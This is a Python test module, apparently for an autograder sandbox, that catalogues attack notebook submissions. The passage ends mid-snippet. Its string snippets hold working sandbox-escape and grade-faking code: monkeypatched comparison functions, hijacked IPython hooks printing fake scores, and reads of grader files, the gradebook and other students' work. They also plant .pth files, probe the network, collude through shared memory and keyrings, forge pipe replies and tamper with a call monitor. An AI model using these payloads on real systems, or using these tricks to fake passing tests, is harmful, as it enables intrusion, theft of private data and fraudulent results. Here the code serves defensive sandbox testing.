"""The attack and fault catalogues of the sandbox (issue 5), as data.

Every entry is one submission of the `attention` assignment built from the instructor's notebook
(``source/attention/attention.ipynb``) by replacing one exercise's solution cell (``tests/helpers/notebooks.py``),
adding a cell, editing the notebook's structure, or replacing the whole file. Each entry says what it is (Korean and
English), which exercises it attacks (they must score 0; every other exercise keeps the score the honest solution gets,
except ``spares``: exercises whose solution calls an attacked one), how the notebook is built and which path grades it:

* ``cells``: graded in this process from the submitted file, as ``python -m autograder grade`` does
  (``collect_file`` + ``grade_submission``: the lane's warm fork server, no gradebook; about 2-3 s a notebook);
* ``notebook``/``file``: the real nbgrader path (``autograder.gradebook.batch.autograde_class`` on a scratch course),
  for edits of the notebook's structure and files that are not notebooks at all.

Attacks on secrets work the same way: the attacked function returns the right answer *only if the attack worked*
(a file of the graders could be read, the test's TCP server answered, ...) and zeros otherwise, so an attack that
works shows up as points (``CONTROL`` proves that it would). Paths, ports and the token are the real ones of the
test run (``Context``), written into the submitted code as literals: the student is assumed to know them.

``known_bug`` marks an entry that the core does not withstand yet (the test is then ``xfail(strict=True)`` with that
reason, and the report counts it); none is marked at present: the six bugs this catalogue found first (restart
budget, forbidden-routine aliases and tampering, caller attribution, System V IPC leftovers, detached processes,
edited nbgrader metadata) are fixed in the core.
"""
from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat
from nbformat.v4 import new_code_cell, new_output

from tests.helpers import notebooks
from autograder.messages import Notice, Reason

ASSIGNMENT = "attention"
TARGET = "dot_product_attention"   # the default victim exercise: no other exercise calls it

# ----------------------------------------------------------------------------------------------- context
@dataclass
class Context:
    """What the builders need: the notebooks, and the real secrets of this run (paths, port, token)."""

    solution: nbformat.NotebookNode
    release: nbformat.NotebookNode
    other_assignment: nbformat.NotebookNode
    graders: list            # files of the hidden graders (autograder/graders/...)
    gpu_refs: list           # stored reference outputs (autograder/graders/gpu_refs/cases/...)
    gradebook: str           # a gradebook file (sqlite)
    submission: str          # another student's submitted notebook (holds ``marker``)
    course: str              # the course directory (gradebook, submitted/, staging)
    marker: str              # a string only the other student's submission contains
    port: int = 0            # the test's TCP server on 127.0.0.1 (answers ``token``)
    unix_name: str = ""      # the test's abstract unix socket (answers ``token``)
    token: str = ""


# ----------------------------------------------------------------------------------------------- entries
@dataclass(frozen=True)
class Entry:
    id: str
    kind: str                        # "attack" | "fault"
    level: str                       # "cells" (grade_notebook) | "notebook" (nbgrader) | "file" (nbgrader)
    ko: str
    en: str
    attacked: tuple                  # exercises that must score 0
    build: Callable                  # Context -> NotebookNode (cells, notebook) or bytes (file)
    spares: tuple | None = None      # exercises not checked (default: those whose solution calls an attacked one;
                                     # ("*",): none but the attacked ones, for sabotage of the shared process)
    full_marks: bool = False         # the whole notebook must keep the honest score (a slow but correct solution)
    expect: tuple = ()               # phrases or catalogue codes (autograder.messages) the feedback must contain
                                     # (a tuple item: any one of them)
    before: Callable | None = None   # Context -> NotebookNode graded just before, in the same lane (accomplice)
    known_bug: str = ""
    in_class: bool = False           # one of the catalogue's share of the class under load
    timeouts: tuple = ()             # (key, seconds) pairs of COURSE["timeouts"] for this entry (over the short ones)
    max_seconds: float | None = None  # the grading of this submission must end within this many seconds
                                     # (default and most: harness.MAX_SECONDS)
    grader_mb: float | None = None   # the grader's own peak memory may grow at most this much while grading it
                                     # (default and most: harness.GRADER_CEILING_MB)
    review: tuple = ()               # phrases the instructor's review list of the graded result must contain

    def __str__(self):
        return self.id


def lacking(entry: Entry, text: str) -> list:
    """The expected phrases or catalogue codes (or groups of alternatives) that ``text`` does not contain."""
    def found(a):
        return a.found_in(text) if isinstance(a, (Reason, Notice)) else a in text

    return [p for p in entry.expect if not any(found(a) for a in (p if isinstance(p, tuple) else (p,)))]


def spared(entry: Entry) -> set:
    if entry.spares == ("*",):
        return set(notebooks.exercises(notebooks.solution_notebook(ASSIGNMENT))) - set(entry.attacked)
    if entry.spares is not None:
        return set(entry.spares)
    depends = notebooks.dependencies(notebooks.solution_notebook(ASSIGNMENT))
    return {e for e, calls in depends.items() if calls & set(entry.attacked)} - set(entry.attacked)


# ----------------------------------------------------------------------------------------------- code snippets
ZEROS = f'''
def {TARGET}(query, key, value, mask=None):
    return np.zeros(np.shape(query)[:-1] + np.shape(value)[-1:])
'''

# The right answer, written by the attacker, returned only when the attack worked (LEAKED).
CHEAT = f'''

def {TARGET}(query, key, value, mask=None):
    if LEAKED:
        return _true_dot(query, key, value, mask)
    return np.zeros(np.shape(query)[:-1] + np.shape(value)[-1:])


def _true_dot(query, key, value, mask=None):
    q, k, v = (np.asarray(a, dtype=np.float64) for a in (query, key, value))
    s = q @ np.swapaxes(k, -1, -2)
    if mask is not None:
        s = np.where(mask, s, -np.inf)
    s = s - s.max(axis=-1, keepdims=True)
    w = np.exp(s)
    return (w / w.sum(axis=-1, keepdims=True)) @ v
'''


def lit(value) -> str:
    """A Python literal of ``value`` (paths, lists) for generated code."""
    return json.dumps(value)


def cheat(setup: str) -> str:
    """``setup`` (which sets ``LEAKED``) followed by the target function that cheats when it is True."""
    return "import numpy as np\nLEAKED = False\n" + setup.strip("\n") + "\n" + CHEAT


def on(exercise: str, source: str):
    """Builder: the solution notebook with ``exercise``'s solution cell replaced by ``source``."""
    return lambda ctx: notebooks.with_code(ctx.solution, {exercise: source})


def on_target(source: str):
    return on(TARGET, source)


def with_cell(source: str, exercise: str, solution: str):
    """Builder: a plain code cell ``source`` added after the imports, and ``exercise``'s solution replaced."""
    def build(ctx):
        nb = notebooks.with_code(ctx.solution, {exercise: solution})
        first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
        nb.cells.insert(first_code + 1, new_code_cell(source))
        return nb
    return build


def grade_cell(nb, exercise: str):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == f"test_{exercise}")


def solution_cell(nb, exercise: str):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == f"solution_{exercise}")


def edited(edit: Callable):
    """Builder: the solution notebook with the target returning zeros, then ``edit(nb)`` applied."""
    def build(ctx):
        nb = notebooks.with_code(ctx.solution, {TARGET: ZEROS})
        edit(nb)
        return nb
    return build


# ----------------------------------------------------------------------------------------------- attacks: judging
PATCH_NUMPY = '''
import numpy as np
import numpy.testing
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
try:
    np.ndarray.__eq__ = lambda self, other: True
except TypeError:
    pass
''' + ZEROS

PATCH_TORCH_KERAS = f'''
import numpy as np
import torch
import keras
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones(torch.as_tensor(a).shape, dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
keras.ops.isclose = lambda a, b, *r, **k: keras.ops.ones(keras.ops.shape(a), dtype="bool")
keras.ops.all = lambda *a, **k: True
keras.ops.convert_to_numpy = lambda x, *a, **k: np.zeros(1)
keras.layers.Attention.call = lambda self, inputs, *a, **k: keras.ops.zeros_like(inputs[0])
torch.nn.functional.scaled_dot_product_attention = lambda q, k, v, *a, **kw: torch.zeros_like(q)


def {TARGET}(query, key, value, mask=None):
    return torch.zeros(tuple(np.shape(query)[:-1]) + tuple(np.shape(value)[-1:]), dtype=torch.float64)
'''

PATCH_BUILTINS = '''
import builtins
import numpy as np
_real_import, _real_print = builtins.__import__, builtins.print


def _import(name, *args, **kwargs):
    if name.split(".")[0] in ("autograder", "pytest", "nbgrader"):
        import types
        fake = types.ModuleType(name)
        fake.grade_notebook = fake.determine_grade = lambda *a, **k: (2, 2)
        return fake
    return _real_import(name, *args, **kwargs)


builtins.__import__ = _import
builtins.all = lambda *a, **k: True
builtins.any = lambda *a, **k: True
builtins.abs = lambda x: 0
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.print = lambda *a, **k: _real_print("✅ dot_product_attention: 통과 2/2", file=k.get("file"))
''' + ZEROS

PATCH_SYS_MODULES = '''
import importlib.abc
import sys
import types
import numpy as np

for name in ("autograder", "autograder.grade", "autograder.graders", "autograder.graders.compare",
             "autograder.graders.plugin", "autograder.sandbox", "autograder.sandbox.runner", "pytest", "nbgrader",
             "nbgrader.utils", "numpy.testing"):
    fake = types.ModuleType(name)
    fake.__path__ = []
    fake.grade_notebook = lambda *a, **k: 100
    fake.expect_close = fake.assert_allclose = lambda *a, **k: None
    fake.determine_grade = lambda *a, **k: (2.0, 2.0)
    sys.modules[name] = fake


class Everything(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        return None


sys.meta_path.insert(0, Everything())
''' + ZEROS

ALWAYS_EQUAL = f'''
import numpy as np


class Equal:
    """Equal to everything, true, zero distance from anything."""
    __array_priority__ = 10 ** 6
    shape = property(lambda self: (2, 5, 6))
    dtype = np.dtype("float64")
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __bool__(self): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    def __float__(self): return 0.0
    def __len__(self): return 2
    def __getitem__(self, i): return self
    def __array__(self, *a, **k): raise TypeError("no")
    def __hash__(self): return 0


def {TARGET}(query, key, value, mask=None):
    return Equal()
'''

EQUAL_ARRAY = f'''
import numpy as np


class EqualArray(np.ndarray):
    """An ndarray of zeros that says it equals (and is close to) anything."""
    def __eq__(self, other): return np.ones(self.shape, dtype=bool)
    def __ne__(self, other): return np.zeros(self.shape, dtype=bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(self.shape)
    def __array_function__(self, func, types, args, kwargs):
        return True


def {TARGET}(query, key, value, mask=None):
    return np.zeros(np.shape(query)[:-1] + np.shape(value)[-1:]).view(EqualArray)
'''

FAKE_TENSOR = f'''
import numpy as np
import torch


class AlwaysClose(torch.Tensor):
    """A torch tensor subclass whose every comparison says True."""
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "__eq__", "eq", "isclose"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {{}})


class Dtype:
    is_floating_point = True


class Impostor:
    """Pretends to be a torch tensor; its numpy() is an object array that claims to equal anything."""
    __module__ = "torch"
    dtype = Dtype()
    def detach(self): return self
    def cpu(self): return self
    def element_size(self): return 8
    def numpy(self): return np.array([object()] * 4, dtype=object)


def {TARGET}(query, key, value, mask=None):
    shape = tuple(np.shape(query)[:-1]) + tuple(np.shape(value)[-1:])
    if mask is None:
        return torch.zeros(shape).as_subclass(AlwaysClose)
    return Impostor()
'''

IPYTHON_TRANSFORMERS = '''
import ast
import builtins
import numpy as np
from IPython.core.interactiveshell import InteractiveShell

ip = InteractiveShell.instance()
builtins.get_ipython = lambda: ip
# Rewrite every later cell (the grade cells' visible checks) into a pass, or into printing full marks.
ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
ip.input_transformers_post.append(lambda lines: ["print(2)\\n", "2\\n"])


class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()


ip.ast_transformers.append(NoAsserts())
''' + ZEROS

DISPLAY_HOOKS = f'''
import sys
import numpy as np
from IPython.core.interactiveshell import InteractiveShell

ip = InteractiveShell.instance()
sys.displayhook = lambda value: sys.stdout.write("2\\n")
sys.excepthook = lambda *a: None
ip.showtraceback = lambda *a, **k: None
ip.showsyntaxerror = lambda *a, **k: None
ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
ip.display_formatter.formatters["text/plain"].for_type(float, lambda *a: "2")
ip.events.register("post_run_cell", lambda result: print("2"))


def {TARGET}(query, key, value, mask=None):
    # the error is meant to vanish in the hijacked hooks, leaving a grade cell with no error output
    raise RuntimeError("이 오류는 숨겨질 것입니다")
'''

PRINTS_NUMBERS = f'''
import sys
import numpy as np
from IPython.display import display

print(2)
print("2.0")
print("dot_product_attention: 2 / 2 점")
print("총점 25 / 25")
sys.stdout.write("2\\n")
sys.stderr.write("2\\n")
display(2.0)


def {TARGET}(query, key, value, mask=None):
    print(2.0)
    print("✅ dot_product_attention: 보이는 확인을 모두 통과했습니다.")
    return np.zeros(np.shape(query)[:-1] + np.shape(value)[-1:])


2
'''


# ----------------------------------------------------------------------------------------------- attacks: secrets
def read_files(paths_expr: str) -> str:
    return f'''
import os
for _p in {paths_expr}:
    try:
        with open(_p, "rb") as _f:
            if _f.read(64):
                LEAKED = True
    except OSError:
        pass
'''


def read_graders(ctx: Context) -> str:
    root = str(Path(ctx.graders[0]).parents[3])   # the repository (…/autograder/graders/<a>/test_x.py)
    guesses = ["../../autograder/graders/references.py", "../autograder/graders/references.py",
               "/autograder/graders/references.py", "/srv/autograder/graders/references.py",
               "~/autograder/graders/references.py"]
    return read_files(f"{lit(ctx.graders)} + [os.path.expanduser(p) for p in {lit(guesses)}] + "
                      "[os.path.join(__import__('sys').prefix, '..', 'autograder', 'graders', 'references.py')]"
                      ) + f'''
import sys
for _root in ({lit(root)}, os.path.join(sys.prefix, ".."), "/", os.getcwd()):
    sys.path.insert(0, _root)
try:   # the editable install's finder maps `autograder` to the repository
    import autograder.graders.references as _references
    LEAKED = True
except Exception:
    pass
try:
    import importlib.util
    _spec = importlib.util.spec_from_file_location("refs", {lit(root)} + "/autograder/graders/references.py")
    _spec.loader.exec_module(importlib.util.module_from_spec(_spec))
    LEAKED = True
except Exception:
    pass
'''


def read_gpu_refs(ctx: Context) -> str:
    return read_files(lit(ctx.gpu_refs)) + f'''
try:
    import glob
    for _p in glob.glob({lit(str(Path(ctx.gpu_refs[0]).parent))} + "/**/*.npz", recursive=True):
        np.load(_p)
        LEAKED = True
except Exception:
    pass
'''


def read_gradebook(ctx: Context) -> str:
    paths = [ctx.gradebook, str(Path(ctx.course) / "gradebook.db"), "gradebook.db", "../gradebook.db",
             "/srv/nbgrader/gradebook.db", str(Path(ctx.graders[0]).parents[3] / "gradebook.db")]
    return read_files(lit(paths)) + f'''
import sqlite3
for _p in {lit(paths)}:
    try:
        _db = sqlite3.connect(f"file:{{_p}}?mode=ro", uri=True)
        _db.execute("select * from grade").fetchall()
        LEAKED = True
    except Exception:
        pass
'''


def read_submission(ctx: Context) -> str:
    course = Path(ctx.course)
    paths = [ctx.submission, str(course / "autograded" / "victim" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"),
             str(course / ".autograder" / "staging" / "victim" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"),
             "../victim/attention/attention.ipynb", "../../submitted/victim/attention/attention.ipynb"]
    return f'''
import glob
import os
_guesses = glob.glob("/srv/nbgrader/exchange/*/inbound/*/*.ipynb") + glob.glob({lit(str(course))} + "/*/*/*/*.ipynb")
for _p in {lit(paths)} + _guesses:
    try:
        with open(_p, encoding="utf-8") as _f:
            if {lit(ctx.marker)} in _f.read():
                LEAKED = True
    except OSError:
        pass
'''


def walk_filesystem(ctx: Context) -> str:
    """Every file the process can see, looked at by path and (for notebooks and databases) by content."""
    exact = ctx.graders + ctx.gpu_refs + [ctx.gradebook, ctx.submission]
    suffixes = ["/autograder/graders/references.py", "/graders/attention/test_dot_product_attention.py",
                "/gpu_refs/cases/index.json", "/submitted/victim/attention/attention.ipynb"]
    return f'''
import os
_found = []
for _top, _dirs, _files in os.walk("/", onerror=lambda e: None):
    if _top in ("/proc", "/sys", "/dev"):
        _dirs[:] = []
        continue
    for _name in _files:
        _path = os.path.join(_top, _name)
        if _path in {lit(exact)} or _path.endswith(tuple({lit(suffixes)})):
            _found.append(_path)
        elif _name.endswith((".ipynb", ".db", ".json", ".npz")):
            try:
                with open(_path, "rb") as _f:
                    if {lit(ctx.marker)}.encode() in _f.read(1 << 22):
                        _found.append(_path)
            except OSError:
                pass
# other processes' views of the file system (the lane's fork server, bubblewrap's init)
for _pid in os.listdir("/proc"):
    if _pid.isdigit() and int(_pid) != os.getpid():
        for _link in ("root", "cwd"):
            try:
                _names = os.listdir(f"/proc/{{_pid}}/{{_link}}")
                if any(n in _names for n in ("autograder", "gradebook.db", "submitted")):
                    _found.append(f"/proc/{{_pid}}/{{_link}}")
            except OSError:
                pass
LEAKED = bool(_found)
'''


def write_secrets(ctx: Context) -> str:
    """Try to change the graders, the references, the gradebook and the other submission (and plant code)."""
    repo_dirs = sorted({str(Path(p).parent) for p in ctx.graders + ctx.gpu_refs})
    decoys = [ctx.gradebook, ctx.submission]
    return f'''
import os
import site
import sys
for _d in {lit(repo_dirs)} + [{lit(ctx.course)}, "/scratch", "/tmp", "/dev/shm", sys.prefix,
                              *site.getsitepackages(), os.path.dirname(os.__file__)]:
    try:   # a new file there (a .pth in site-packages would run in every later Python process)
        with open(os.path.join(_d, "zz_attack_probe.pth"), "x") as _f:
            _f.write("import os; os.environ['PWNED'] = '1'\\n")
        LEAKED = True
    except OSError:
        pass
for _p in {lit(ctx.graders + ctx.gpu_refs)}:
    try:
        os.utime(_p, (0, 0))
        LEAKED = True
    except OSError:
        pass
    try:
        with open(_p, "r+b") as _f:
            LEAKED = True
    except OSError:
        pass
for _p in {lit(decoys)}:
    try:
        with open(_p, "ab") as _f:
            _f.write(b"\\n# attack\\n")
        LEAKED = True
    except OSError:
        pass
    for _act in (lambda p: os.chmod(p, 0o777), lambda p: os.truncate(p, 0), os.remove):
        try:
            _act(_p)
            LEAKED = True
        except OSError:
            pass
'''


def network(ctx: Context) -> str:
    return f'''
import socket
_targets = [("127.0.0.1", {ctx.port}), ("localhost", {ctx.port}), ("::1", {ctx.port}), ("10.0.2.2", {ctx.port}),
            ("172.17.0.1", {ctx.port}), ("8.8.8.8", 53), ("1.1.1.1", 443)]
for _host, _port in _targets:
    try:
        with socket.create_connection((_host, _port), timeout=1) as _s:
            _s.settimeout(1)
            if {lit(ctx.token)}.encode() in _s.recv(256):
                LEAKED = True
    except OSError:
        pass
try:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as _s:
        _s.settimeout(1)
        _s.connect("\\0" + {lit(ctx.unix_name)})
        if {lit(ctx.token)}.encode() in _s.recv(256):
            LEAKED = True
except OSError:
    pass
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as _s:
        _s.sendto(b"leak", ("127.0.0.1", {ctx.port}))
except OSError:
    pass
'''


def network_gradebook(ctx: Context) -> str:
    """The gradebook over the network (a PostgreSQL URL pointed at the test's server) and as a file."""
    return f'''
import socket
import sqlite3
try:   # "postgresql://127.0.0.1:PORT/gradebook": the test's server stands in for the database
    with socket.create_connection(("127.0.0.1", {ctx.port}), timeout=1) as _s:
        _s.sendall(b"\\x00\\x00\\x00\\x08\\x04\\xd2\\x16\\x2f")   # an SSLRequest, as a PostgreSQL client starts
        if {lit(ctx.token)}.encode() in _s.recv(256):
            LEAKED = True
except OSError:
    pass
for _p in ({lit(ctx.gradebook)}, "gradebook.db"):
    try:
        _db = sqlite3.connect(f"file:{{_p}}?mode=rw", uri=True)
        _db.execute("update grade set auto_score = 100")
        _db.commit()
        LEAKED = True
    except Exception:
        pass
'''


# accomplice and attacker of the same lane: the first leaves its answers where the next process might look
ACCOMPLICE = '''
import ctypes
import os
_answer = b"LEAKED-ANSWERS"
for _p in ("/tmp/answers", "/dev/shm/answers", "/scratch/answers", os.path.expanduser("~/../answers"),
           "/var/tmp/answers"):
    try:
        with open(_p, "wb") as _f:
            _f.write(_answer)
    except OSError:
        pass
try:   # System V shared memory outlives the process that made it
    _libc = ctypes.CDLL(None, use_errno=True)
    _libc.shmat.restype = ctypes.c_void_p
    _id = _libc.shmget(0x5EED, 4096, 0o1000 | 0o666)
    if _id >= 0:
        _addr = _libc.shmat(_id, None, 0)
        if _addr not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(_addr, _answer, len(_answer))
except Exception:
    pass
'''

COLLUDER = '''
import ctypes
import os
for _p in ("/tmp/answers", "/dev/shm/answers", "/scratch/answers", os.path.expanduser("~/../answers"),
           "/var/tmp/answers"):
    try:
        with open(_p, "rb") as _f:
            if _f.read() == b"LEAKED-ANSWERS":
                LEAKED = True
    except OSError:
        pass
try:
    _libc = ctypes.CDLL(None, use_errno=True)
    _libc.shmat.restype = ctypes.c_void_p
    _id = _libc.shmget(0x5EED, 4096, 0)
    if _id >= 0:
        _addr = _libc.shmat(_id, None, 0)
        if _addr not in (None, ctypes.c_void_p(-1).value) and ctypes.string_at(_addr, 14) == b"LEAKED-ANSWERS":
            LEAKED = True
except Exception:
    pass
'''


def accomplice(ctx: Context):
    nb = copy.deepcopy(ctx.solution)
    first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells.insert(first_code + 1, new_code_cell(ACCOMPLICE))
    return nb


# the grader's side of the sandbox: its pipes, its reading of the output, its memory. The student finds the
# worker's two pipes to the grader as any process can: among its own open descriptors (the one written to is the
# response pipe).
PIPE_ENDS = '''
import fcntl
import os
import stat
import struct


def _pipe_ends():
    ends = {}
    for _name in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            _fd = int(_name)
            if stat.S_ISFIFO(os.fstat(_fd).st_mode):
                ends.setdefault("w" if fcntl.fcntl(_fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY else "r", _fd)
        except (OSError, ValueError):
            pass
    return ends
'''

# a frame of 2 bytes (no header at all) written straight to the response pipe while the cell runs
MALFORMED_AT_IMPORT = PIPE_ENDS + '''
os.write(_pipe_ends()["w"], struct.pack(">Q", 2) + b"{}")
''' + ZEROS

# a well-formed reply of its own, written before the worker's: every later reply would answer the call before it
FORGED_REPLY = PIPE_ENDS + f'''
import json
import numpy as np


def {TARGET}(query, key, value, mask=None):
    head = json.dumps({{"ok": True, "value": None, "seconds": 0.0, "used": []}}).encode()
    os.write(_pipe_ends()["w"], struct.pack(">Q", 4 + len(head)) + struct.pack(">I", len(head)) + head)
    return np.zeros(np.shape(query)[:-1] + np.shape(value)[-1:])
'''

# a reply of 256 MiB (one uint8 array, streamed: the student's own memory stays small)
OVERSIZED_REPLY = PIPE_ENDS + f'''
import io
import json
import numpy as np


def {TARGET}(query, key, value, mask=None):
    n = 1 << 28
    head = json.dumps({{"ok": True, "value": {{"a": 0}}, "seconds": 0.0, "used": []}}).encode()
    npy = io.BytesIO()
    np.lib.format.write_array_header_1_0(npy, {{"descr": "|u1", "fortran_order": False, "shape": (n,)}})
    npy = npy.getvalue()
    fd = _pipe_ends()["w"]
    os.write(fd, struct.pack(">Q", 4 + len(head) + 8 + len(npy) + n) + struct.pack(">I", len(head)) + head
             + struct.pack(">Q", len(npy) + n) + npy)
    block = bytes(1 << 20)
    for _ in range(n >> 20):
        os.write(fd, block)
    return np.zeros(np.shape(query)[:-1] + np.shape(value)[-1:])
'''

# the first call of each process returns, then stops the process a moment later: the grader's next request (the
# request pipe shrunk to one page first) finds nobody reading it
STUCK_REQUEST_PIPE = PIPE_ENDS + '''
import signal
import threading
import time
import numpy as np
_STOPPED = []


def scaled_dot_product_attention(query, key, value, mask=None, return_weights=False):
    if not _STOPPED:
        _STOPPED.append(True)
        fcntl.fcntl(_pipe_ends()["r"], 1031, 4096)   # F_SETPIPE_SZ
        threading.Timer(0.05, os.kill, (os.getpid(), signal.SIGSTOP)).start()
    # Each call takes 0.1 s, so that the stop lands while this function's checks are still being run (between two
    # of its calls or in one): a warm lane answers all of its calls within the timer's 0.05 s otherwise, and the
    # stop then fell on another exercise or after the grading.
    time.sleep(0.1)
    out = np.zeros(np.shape(query)[:-1] + np.shape(value)[-1:])
    if return_weights:
        return out, np.zeros(np.shape(query)[:-1] + np.shape(key)[-2:-1])
    return out
'''

# the output log the grader reads after a crash, replaced by a FIFO (a reader of it waits for a writer forever)
FIFO_LOG = f'''
import os
import numpy as np
for _name in ("output.log", "../output.log"):
    try:
        os.unlink(_name)
    except OSError:
        pass
    try:
        os.mkfifo(_name)
    except OSError:
        pass


def {TARGET}(query, key, value, mask=None):
    os._exit(1)
'''

# the accomplice leaves answers in every kernel object its uid or IPC namespace can hold beyond files: a POSIX
# message queue, and keys in the uid's user, user session, session and persistent keyrings
KEYCTL = '''
import ctypes
import os
_libc = ctypes.CDLL(None, use_errno=True)
_L = ctypes.c_long
_RINGS = (-4, -5, -3)   # the uid's user keyring, its user session keyring, the session keyring


def _sys(number, *args):
    return _libc.syscall(_L(number), *[_L(a) if isinstance(a, int) else a for a in args])


def _persistent():
    return _sys(250, 22, -1, -2)   # keyctl(KEYCTL_GET_PERSISTENT, own uid, link into the process keyring)
'''

ACCOMPLICE_KERNEL = KEYCTL + '''
_answer = b"LEAKED-ANSWERS"
try:
    _q = _libc.mq_open(b"/answers", os.O_CREAT | os.O_RDWR, 0o666, None)
    if _q >= 0:
        _libc.mq_send(_q, _answer, len(_answer), 0)
except Exception:
    pass
for _ring in _RINGS + (_persistent(),):
    _sys(248, b"user", b"answers", _answer, len(_answer), _ring)   # add_key
'''

COLLUDER_KERNEL = KEYCTL + '''
try:
    _q = _libc.mq_open(b"/answers", os.O_RDONLY | os.O_NONBLOCK)
    if _q >= 0:
        _buf = ctypes.create_string_buffer(1 << 16)
        if _libc.mq_receive(_q, _buf, len(_buf), None) > 0 and _buf.value == b"LEAKED-ANSWERS":
            LEAKED = True
except Exception:
    pass
for _ring in _RINGS + (_persistent(),):
    _key = _sys(250, 10, _ring, b"user", b"answers", 0)   # keyctl(KEYCTL_SEARCH)
    if _key > 0:
        _buf = ctypes.create_string_buffer(64)
        if _sys(250, 11, _key, _buf, 64) > 0 and _buf.value == b"LEAKED-ANSWERS":   # keyctl(KEYCTL_READ)
            LEAKED = True
'''


def accomplice_kernel(ctx: Context):
    nb = copy.deepcopy(ctx.solution)
    first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells.insert(first_code + 1, new_code_cell(ACCOMPLICE_KERNEL))
    return nb


# more scratch space than the sandbox gives: 400 MB in files of 50 MB (each under the size limit of one file) and
# 6000 files; the answer is "earned" only when all of it could be written
SCRATCH_FLOOD = '''
import os
try:
    _block = bytes(1 << 20)
    for _i in range(8):
        with open(f"flood{_i}", "wb") as _f:
            for _ in range(50):
                _f.write(_block)
    os.makedirs("many", exist_ok=True)
    for _i in range(6000):
        open(f"many/{_i}", "w").close()
    LEAKED = True
except OSError:
    pass
'''


# ----------------------------------------------------------------------------------------------- attacks: forbidden
SDPA_VIA = '''
def scaled_dot_product_attention(query, key, value, mask=None, return_weights=False):
    q, k, v = (torch.as_tensor(np.asarray(a, dtype=np.float64)) for a in (query, key, value))
    m = None if mask is None else torch.as_tensor(np.asarray(mask))
    out = CALL(q, k, v, m)
    if return_weights:
        s = (q @ k.transpose(-1, -2)) / q.shape[-1] ** 0.5
        if m is not None:
            s = s.masked_fill(~m, float("-inf"))
        return np.asarray(out), torch.softmax(s, dim=-1).numpy()
    return np.asarray(out)
'''

SOFTMAX_VIA = '''
def softmax(x, axis=-1):
    return CALL(torch.as_tensor(np.asarray(x)), axis).numpy()
'''

DOT_VIA_KERAS = f'''
def {TARGET}(query, key, value, mask=None):
    q, k, v = (np.asarray(a, dtype=np.float32) for a in (query, key, value))
    layer = KerasAttention(score_mode="dot")
    layer.build([q.shape, v.shape, k.shape])
    key_mask = None
    if mask is not None:
        m = np.broadcast_to(np.asarray(mask), q.shape[:-1] + k.shape[-2:-1])
        key_mask = m[..., 0, :]
    out = CALL(layer, [q, v, k], key_mask)
    return keras.ops.convert_to_numpy(out)
'''

KERAS_DIRECT = f'''
def {TARGET}(query, key, value, mask=None):
    q, k, v = (np.asarray(a, dtype=np.float32) for a in (query, key, value))
    layer = keras.layers.Attention(score_mode="dot")
    m = None
    if mask is not None:
        m = [None, np.broadcast_to(np.asarray(mask), q.shape[:-1] + k.shape[-2:-1])[..., 0, :]]
    return keras.ops.convert_to_numpy(layer([q, v, k], mask=m))
'''

# Runs `CALL` from a nested helper named like another exercise, so that a rule attributing routines to the
# innermost student function blames that one.
SDPA_SPOOFED = SDPA_VIA.replace("    out = CALL(q, k, v, m)", "    def multi_head_attention(q, k, v, m):\n"
                                "        return attend(q, k, v, attn_mask=m).numpy()\n"
                                "    out = multi_head_attention(q, k, v, m)")
SDPA_NO_TORCH_FUNCTION = SDPA_VIA.replace("    out = CALL(q, k, v, m)", "    with torch._C.DisableTorchFunction():\n"
                                          "        out = CALL(q, k, v, m)")

FLASH_CALL = '''
import numpy as np
import torch
_flash = torch._scaled_dot_product_flash_attention_for_cpu


def CALL(q, k, v, m):
    lead, tq, tk = q.shape[:-2], q.shape[-2], k.shape[-2]
    dv, d = v.shape[-1], q.shape[-1]
    width = max(d, dv)
    pad = lambda a: torch.nn.functional.pad(a, (0, width - a.shape[-1])).reshape(-1, 1, a.shape[-2], width)
    bias = None
    if m is not None:
        bias = torch.zeros(torch.broadcast_shapes(m.shape, lead + (tq, tk)), dtype=q.dtype)
        bias = bias.masked_fill(~m.expand(bias.shape), float("-inf")).reshape(-1, 1, tq, tk)
    out = _flash(pad(q), pad(k), pad(v), attn_mask=bias, scale=d ** -0.5)[0]
    return out[..., :dv].reshape(*lead, tq, dv).numpy()
'''

MONITOR_TAMPER = '''
import sys
import numpy as np
import torch
from torch.nn.functional import scaled_dot_product_attention as _attend

_worker = sys.modules["__main__"]            # the sandbox's worker: its Monitor watches library calls
_worker.Monitor.run = lambda self, fn, args, kwargs: fn(*args, **kwargs)
_worker.Monitor.install = lambda self: None
